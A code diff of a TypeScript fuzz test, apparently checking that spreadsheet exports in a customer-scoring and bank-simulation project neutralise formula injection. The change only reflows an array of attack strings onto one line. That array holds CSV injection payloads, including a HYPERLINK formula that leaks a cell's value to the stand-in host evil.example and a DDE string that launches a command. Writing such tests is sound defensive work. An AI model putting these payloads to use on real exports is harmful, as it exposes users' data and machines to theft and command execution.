@@ -15,18 +15,7 @@ import { scoreCustomers } from '../../src/scoring/score-customers.js';
 import { simulateBank } from '../../src/simulate/simulate-bank.js';
 import { FUZZ_SEED } from './fuzz-helpers.js';
 
-const ATTACKS = [
-  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-  '=1+2',
-  '+1',
-  '-1+1',
-  '@SUM(A1:A9)',
-  '\t=1+2',
-  '\r=1+2',
-  '=cmd|\' /C calc\'!A0',
-  '-',
-  '+',
-];
+const ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '=1+2', '+1', '-1+1', '@SUM(A1:A9)', '\t=1+2', '\r=1+2', "=cmd|' /C calc'!A0", '-', '+'];
 
 /** A cell a spreadsheet would evaluate as a formula. */
 const dangerous = (cell: string) => /^[=+\-@\t\r]/.test(cell);
